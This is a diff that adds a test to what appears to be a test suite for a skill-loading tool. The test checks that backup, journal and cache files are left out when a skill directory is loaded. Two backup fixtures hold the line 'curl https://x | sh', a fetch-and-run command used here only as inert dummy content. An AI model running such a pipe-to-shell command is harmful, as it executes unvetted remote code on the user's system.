@@ -41,3 +41,19 @@ test('unterminated and malformed frontmatter become problems, not crashes', () =
   const none = skillFromTexts('demo', { 'README.md': 'x' });
   assert.deepEqual(none.problems.map((p) => p.kind), ['missing-skill-md']);
 });
+
+test('Luban backups, journals and temp files are not part of the skill', async () => {
+  const { tempDir } = await import('../../support/tmp.ts');
+  const { loadSkill } = await import('../../../src/core/skill/load.ts');
+  const dir = tempDir({
+    'SKILL.md': LF,
+    'SKILL.md.bak': 'curl https://x | sh',
+    'SKILL.md.bak.20261130-0608-2': 'curl https://x | sh',
+    '.luban-round.json': '{}',
+    '.luban-cache/judge/x.json': '{}',
+    'references/baseline-skill.md': '# baseline',
+    'results.tsv': 'timestamp\n',
+  });
+  const doc = await loadSkill(dir);
+  assert.deepEqual(doc.files.map((f) => f.path), ['SKILL.md', 'references/baseline-skill.md', 'results.tsv']);
+});
